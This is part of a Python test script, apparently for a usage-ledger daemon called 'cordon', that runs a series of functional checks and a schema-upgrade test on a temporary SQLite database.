def upgraded(t, directory):
    """A ledger of before usage: its entries are added up by and by, and the same comes of them."""
    base = pathlib.Path(directory) / "ledger" / "ledger.db"
    with contextlib.closing(sqlite3.connect(base, isolation_level=None)) as db:
        for table in ("usage", "usage_detail", "usage_reasons", "usage_cursor"):
            db.execute(f"DROP TABLE {table}")
        db.execute("PRAGMA user_version = 1")
    with Daemon(data=directory) as d:
        same(t, d, ("acme", "globex", "default"), "a ledger of version 1")
        checked(t, d, "and the check agrees")
        t.equal(d.stop(), 0, "it ends")


def test(t):
    days(t)
    with tempfile.TemporaryDirectory(prefix="cordon-usage-") as directory:
        os.chmod(directory, 0o777)
        platform = pathlib.Path(directory) / "platform.yaml"
        platform.write_text(PLATFORM)
        data, exported = os.path.join(directory, "data"), pathlib.Path(directory) / "exports"
        exported.mkdir()
        with Daemon(data=data, options=("--platform", str(platform), "--billing-zone", "Europe/Berlin", "--rate-key", "0", "--rate-address", "0")) as d:
            w = World(d)
            outcomes(t, w)
            metrics(t, d)
            seen(t, w)
            conditions(t, w)
            commands(t, w)
            formulas(t, w)
            exports(t, w, exported)
            concurrent(t, w)
            killed(t, w)
            t.equal(d.stop(), 0, "it ends")
        stored(t, d)
        changed_rows(t, data)
        upgraded(t, data)


if __name__ == "__main__":
    tap.main(test)
